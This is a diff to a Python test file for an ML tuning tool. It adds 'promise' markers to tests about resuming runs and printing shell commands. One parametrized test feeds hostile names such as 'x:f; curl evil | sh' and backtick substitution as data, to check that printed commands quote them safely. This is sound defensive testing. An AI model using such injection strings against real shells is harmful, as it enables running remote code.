@@ -165,6 +165,7 @@ CHANGES = {
 }
 
 
+@pytest.mark.promise("It says in which line the code has changed")
 def test_what_a_resume_says_of_changed_code(folder, monkeypatch):
     load_own({"architecture": ["net.py:mlp"]})
     recorded = printable(json.loads(json.dumps(sources({"architecture": ["net.py:mlp"]}))))  # as it is read
@@ -238,6 +239,8 @@ def test_code_is_named_again_without_arguments_also_where_its_file_has_moved(fol
     assert ("architecture", "net.py:mlp") in own_code()[1]
 
 
+@pytest.mark.promise("Printed commands are words for the shell, and name no code that only the folder names")
+@pytest.mark.promise("A resume takes no code from a folder, and says what to name")
 def test_a_resume_without_the_code_says_what_to_name(folder):
     load_own({"architecture": ["net.py:mlp"]})
     recorded = sources({"architecture": ["net.py:mlp"]})
@@ -253,6 +256,7 @@ def test_a_resume_without_the_code_says_what_to_name(folder):
     assert command == "mnist-tune regimes --resume results/x --architecture net.py:mlp --optimizer 'my opt.py:adam'"
 
 
+@pytest.mark.promise("Printed commands are words for the shell, and name no code that only the folder names")
 @pytest.mark.parametrize("name", ["x:f; curl evil | sh", "--address=evil:6379", "it's:f", "`x`:f"])
 def test_the_name_of_recorded_code_is_a_word_for_the_shell(folder, name):
     recorded = [{"flag": "architecture", "name": name, "files": {}}]
@@ -278,6 +282,7 @@ def test_what_a_factory_takes_can_be_told_in_another_process(folder):
     assert list(inspect.signature(ENTRIES["architecture"]["net.py:mlp"].factory).parameters) == ["data", "width"]
 
 
+@pytest.mark.promise("The next sweep of a session trains what was edited since, and records it")
 def test_what_is_changed_in_a_session_is_loaded_recorded_and_sent(folder):
     """The file itself, and a module beside it, of as many bytes and within the second of the former."""
 
@@ -338,6 +343,7 @@ def test_a_sweep_after_a_file_was_edited_sends_the_new_text_though_only_the_othe
     assert own_code()[1]["optimizer", "opt.py:sgd"]()(0.1) == 2
 
 
+@pytest.mark.promise("Names that import the same module share its classes")
 def test_a_network_and_an_optimizer_share_the_classes_of_a_module_here_and_elsewhere(folder):
     (folder / "common.py").write_text("class Rate:\n    pass\n")
     for name in ("net", "opt"):
